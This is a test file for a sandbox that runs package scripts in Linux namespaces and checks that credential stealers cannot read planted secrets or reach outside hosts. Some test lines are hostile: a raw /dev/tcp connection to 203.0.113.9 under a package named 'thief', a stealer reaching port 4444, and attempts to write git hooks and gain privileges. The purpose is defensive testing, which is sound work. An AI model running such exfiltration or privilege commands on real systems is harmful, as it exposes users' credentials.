import { spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import t from 'tap'
import { runInSandbox, type Ended } from '../../src/sandbox/run.ts'
import { STEALERS } from './stealers.ts'

const MARK = 'mark-of-a-secret'

const asked: string[] = []
const server = createServer((request, response) => {
  asked.push(request.url ?? '')
  response.end('fine')
})
await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
t.teardown(() => server.close())
const lazaret = `http://127.0.0.1:${(server.address() as AddressInfo).port}`

const root = mkdtempSync(join(tmpdir(), 'lazaret-sandbox-'))
t.teardown(() => rmSync(root, { recursive: true, force: true }))
const home = join(root, 'home')
const project = join(home, 'code', 'shop')
for (const [path, text] of Object.entries({
  'home/.npmrc': `//host.invalid/:_authToken=${MARK}`,
  'home/.ssh/id_rsa': MARK,
  'home/.aws/credentials': MARK,
  'home/.config/gh/hosts.yml': MARK,
  'home/code/other/.env': MARK,
  'home/code/shop/.env': `KEY=${MARK}`,
  'home/code/shop/app/.env.production': `KEY=${MARK}`,
  'home/code/shop/.env.example': 'KEY=',
  'home/code/shop/.npmrc': `save-exact=true\n//host.invalid/:_authToken=${MARK}\n`,
  'home/code/shop/.git/config': `[http]\nextraheader = ${MARK}\n`,
  'home/code/shop/.git/HEAD': 'ref: refs/heads/main\n',
})) {
  mkdirSync(dirname(join(root, path)), { recursive: true })
  writeFileSync(join(root, path), text)
}

function run(command: readonly string[], keep: readonly string[] = []): Promise<Ended> {
  const environment = { ...process.env, DEPLOY_TOKEN: MARK, AWS_SECRET_ACCESS_KEY: MARK }
  return runInSandbox({ command, project, lazaret, keep, readable: [], home, environment })
}

/** Whether this machine lets us: the tests of the inside are of no use elsewhere, and what is said there is tested then. */
const isAble = spawnSync('unshare', ['--net', '--map-root-user', 'bwrap', '--ro-bind', '/', '/', 'true']).status === 0

t.test('in the home folder, and above it, nothing is run', async (t) => {
  for (const place of [home, root]) {
    const options = {
      command: ['true'],
      project: place,
      lazaret,
      keep: [],
      readable: [],
      home,
      environment: process.env,
    }
    await t.rejects(runInSandbox(options), { message: isAble ? /holds the home folder/ : /nothing was run/ })
  }
})

t.test('a program that is not there: nothing is run', async (t) => {
  await t.rejects(run(['nosuch-program']), { message: isAble ? /no program nosuch-program in/ : /nothing was run/ })
})

if (!isAble)
  t.test('where namespaces cannot be made nothing is run', async (t) => {
    await t.rejects(run(['touch', 'ran']), /nothing was run/)
    t.notOk(existsSync(join(project, 'ran')))
  })
else {
  t.test('stealers find no secret, reach nobody, and are named', async (t) => {
    const lines = STEALERS.map(({ program, text }, index) => {
      writeFileSync(join(project, `steal-${index}.cjs`), text)
      return `${program.join(' ')} steal-${index}.cjs loot-${index}`
    })
    writeFileSync(join(project, 'all.sh'), `${lines.map((line) => `timeout 20 ${line} &`).join('\n')}\nwait\nsleep 1\n`)
    const { attempts } = await run(['bash', '-c', 'bash all.sh > out.txt 2>&1'])
    t.comment(readFileSync(join(project, 'out.txt'), 'utf8').slice(0, 2000))
    for (const [index, { host }] of STEALERS.entries()) {
      const found = readFileSync(join(project, `loot-${index}`), 'utf8')
      t.match(found, /npm_config_registry/, 'it did look')
      t.notMatch(found, MARK, `steal-${index}`)
      t.ok(
        attempts.some((one) => one.host === host),
        host,
      )
    }
    t.match(
      attempts.filter(({ port }) => port === 4444),
      [{ host: 'n4.invalid', process: /steal-3/ }],
    )
  })

  t.test('the project can be written, its history and all else cannot; Lazaret is reached', async (t) => {
    const script = `
      echo x > made.txt
      for f in .git/hooks/x .git/config /usr/x /etc/x .env; do
        (echo x > $f) 2>/dev/null && echo "wrote $f" >> made.txt
      done
      echo x > "$HOME/../x"; echo x > "$HOME/x"; rm "$HOME/x"
      ls "$HOME" "$HOME/code" >> made.txt
      node -e "fetch('${lazaret}/npm/a').then((r) => r.text()).then(console.log)" >> made.txt
      cat .npmrc >> made.txt
      exit 7`
    const { code, attempts } = await run(['bash', '-c', script])
    t.equal(code, 7)
    t.same(attempts, [])
    t.same(
      readFileSync(join(project, 'made.txt'), 'utf8')
        .trim()
        .split('\n')
        .filter((line) => line !== '' && !line.endsWith(':')),
      ['x', 'code', 'shop', 'fine', 'save-exact=true'],
    )
    t.notOk(existsSync(join(root, 'x')))
    t.same(asked, ['/npm/a'])
    t.match(readFileSync(join(project, '.env'), 'utf8'), MARK)
  })

  t.test('a variable is there by its name', async (t) => {
    await run(['bash', '-c', 'echo "$DEPLOY_TOKEN" > token.txt'], ['DEPLOY_TOKEN'])
    t.equal(readFileSync(join(project, 'token.txt'), 'utf8'), `${MARK}\n`)
  })

  t.test('no more rights can be had inside', async (t) => {
    const script =
      'ip link add dummy0 type dummy; mount -t tmpfs x /mnt; unshare -n true; ip route del local default; true'
    await run(['bash', '-c', `(${script}) 2> said.txt; (ip link; ls /mnt) > seen.txt 2>&1`])
    t.notMatch(readFileSync(join(project, 'seen.txt'), 'utf8'), /dummy0/)
    const named =
      'export npm_package_name=thief npm_package_version=1.0.0; exec bash -c "exec 3<>/dev/tcp/203.0.113.9/443; sleep 1"'
    const { attempts } = await run(['bash', '-c', named])
    t.match(attempts, [{ host: '203.0.113.9', port: 443, package: 'npm:thief@1.0.0' }])
  })
}
